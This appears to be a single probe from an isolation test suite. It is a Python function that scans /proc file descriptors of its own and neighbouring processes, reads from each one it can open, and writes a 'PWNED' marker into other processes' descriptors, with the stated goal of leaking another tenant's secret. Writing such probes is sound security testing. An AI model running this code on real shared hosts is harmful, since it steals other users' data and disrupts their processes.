# family: frames-of-ours
# kind: value
# tries: its channel by its names in /proc, in the directions that it does not have, and that of all others
# success looks like: TENANT-B-SECRET, or a neighbour that misses an answer
def job(plugin):
  @LIBC@
  select = sys.modules['select']
  found = []
  for pid in ['self', *range(1, max(os.getpid(), 300) + 60)]:
    for number in range(0, 40):
      for flags in (os.O_RDONLY, os.O_WRONLY, os.O_RDWR):
        try:
          copy = os.open(f'/proc/{pid}/fd/{number}', flags | os.O_NONBLOCK)
        except OSError:
          continue
        try:
          found.append((pid, number, flags, os.read(copy, 65536) if flags != os.O_WRONLY else 0))
        except OSError:
          pass
        if pid not in ('self', os.getpid()):
          try:
            os.write(copy, b'\xff\xff\xff\xffPWNED')
          except OSError:
            pass
        os.close(copy)
      if number > 5 and len(found) > 4000:
        return found
  return found
